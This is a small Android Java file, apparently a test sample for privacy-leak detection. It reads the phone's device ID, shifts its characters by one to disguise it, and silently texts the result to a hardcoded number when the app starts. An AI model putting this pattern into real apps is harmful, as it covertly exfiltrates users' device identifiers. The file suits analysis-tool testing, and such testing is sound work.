package cn.privlens.suite.char_arithmetic;

import android.app.*;
import android.content.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.regex.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        char[] chars = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId().toCharArray();
        char[] other = new char[chars.length];
        for (int i = 0; i < chars.length; i++) {
            chars[i] = (char) (chars[i] + 1);
            other[i] = (char) ('a' + i);
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, new String(chars), null, null);
    }

}
